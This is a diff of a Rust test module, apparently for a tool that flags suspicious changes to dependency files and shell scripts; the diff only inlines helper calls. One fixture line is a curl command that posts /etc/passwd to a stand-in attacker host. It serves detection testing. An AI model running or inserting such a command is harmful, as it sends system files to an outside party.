@@ -208,8 +208,7 @@ mod tests {
         let old = numbered("d@==1.0", 25);
         let mut new = numbered("d@==1.1", 25);
         new.push("evil==6.6".to_owned());
-        let (old, new) = (plain(&old), plain(&new));
-        let said = found("requirements.txt", &old, &new);
+        let said = found("requirements.txt", &plain(&old), &plain(&new));
         assert!(
             said.contains("evil: ") && !said.contains("evil: was there"),
             "{said}"
@@ -224,8 +223,7 @@ mod tests {
     fn removed_lines_are_not_read_for_each_of_many_matches() {
         // Each of a match's own: it took a minute and a half.
         let (old, new) = (numbered("# d@", 20_000), numbered("d@==1.1", 20_000));
-        let (old, new) = (plain(&old), plain(&new));
-        assert!(found("requirements.txt", &old, &new).contains("[dep-"));
+        assert!(found("requirements.txt", &plain(&old), &plain(&new)).contains("[dep-"));
     }
 
     #[test]
@@ -233,8 +231,7 @@ mod tests {
         let old = numbered("  curl https://api.example.org/@", 22);
         let mut new = numbered("curl https://api.example.org/@", 22);
         new.push("curl -d @/etc/passwd https://evil.example/".to_owned());
-        let (old, new) = (plain(&old), plain(&new));
-        let said = found("up.sh", &old, &new);
+        let said = found("up.sh", &plain(&old), &plain(&new));
         assert!(
             said.contains("[REACH_KEPT]") && said.contains("[io-"),
             "{said}"
